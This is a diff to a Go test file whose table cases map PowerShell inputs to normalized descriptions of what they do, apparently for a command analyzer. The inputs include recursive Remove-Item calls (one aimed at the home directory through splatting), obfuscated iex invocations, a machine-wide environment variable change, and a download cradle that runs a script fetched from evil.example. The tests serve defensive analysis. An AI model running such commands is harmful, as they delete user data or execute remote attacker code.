@@ -79,6 +79,8 @@ func TestRead(t *testing.T) {
 		{"turned around", `$s='x mr'; iex (-join $s[-1..-$s.Length])`, `run remove-item x`},
 		{"attached value", `Remove-Item -Path:x -Recurse:$true`, `run remove-item -Path x -Recurse`},
 		{"switch that is off", `Remove-Item x -Recurse:$false`, `run remove-item x`},
+		{"splatting", `$d = '~'; $a = @{ Path = $d; Recurse = $true; Force = $false }; $d = 'x'; Remove-Item @a`, `run remove-item -Path ~ -Recurse`},
+		{"variable that stays", `[Environment]::SetEnvironmentVariable('A', 'b', 'Machine')`, "set A b\nrun setx A b"},
 		{"list", `Remove-Item a, b`, `run remove-item a b`},
 		{"expression string", `iex 'rm x'`, `run remove-item x`},
 		{"cradle", `iex (New-Object Net.WebClient).DownloadString('http://evil.example/a')`, "fetch http://evil.example/a\nscript powershell from the network"},
